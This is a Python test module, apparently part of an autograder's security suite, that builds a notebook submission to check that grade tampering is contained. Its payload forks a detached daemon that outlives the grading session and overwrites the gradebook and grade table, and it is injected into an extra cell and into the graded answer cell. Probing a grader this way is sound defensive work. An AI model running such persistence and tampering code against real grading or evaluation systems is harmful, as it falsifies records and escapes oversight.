"""A daemon that should outlive the grader: it forks twice, leaves its session, sleeps, then
rewrites the gradebook and the grade table after the run. The sandbox dies with its job: the
daemon with it. The kernels are honest."""

from attacks import FULL, add_cell
from attacks._escape import ESCAPE

STUDENT = "attack_daemon"
DESERVED = dict(FULL)

DAEMON = (
    ESCAPE
    + """
import os as _os
import time as _time

try:
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _time.sleep({delay})
            for _path in [{grading!r} + "/gradebook.db", {grading!r} + "/grades.csv"]:
                try:
                    with open(_path, "w") as _handle:
                        _handle.write("daemon was here")
                except Exception:
                    pass
            _os._exit(0)
        _os._exit(0)
    print("daemon started")
except Exception as _error:
    print("no daemon:", type(_error).__name__)
"""
)


def build(ctx):
    # the notebook's kernel starts it (an extra cell), and so does the checks' runner
    source = DAEMON.format(delay=30, grading=str(ctx.grading))
    nb = add_cell(ctx.solution, source)
    cell = next(
        c
        for c in nb.cells
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "precision_fft_answer"
    )
    cell.source = cell.source.rstrip() + "\n\n" + source.strip() + "\n"
    return nb
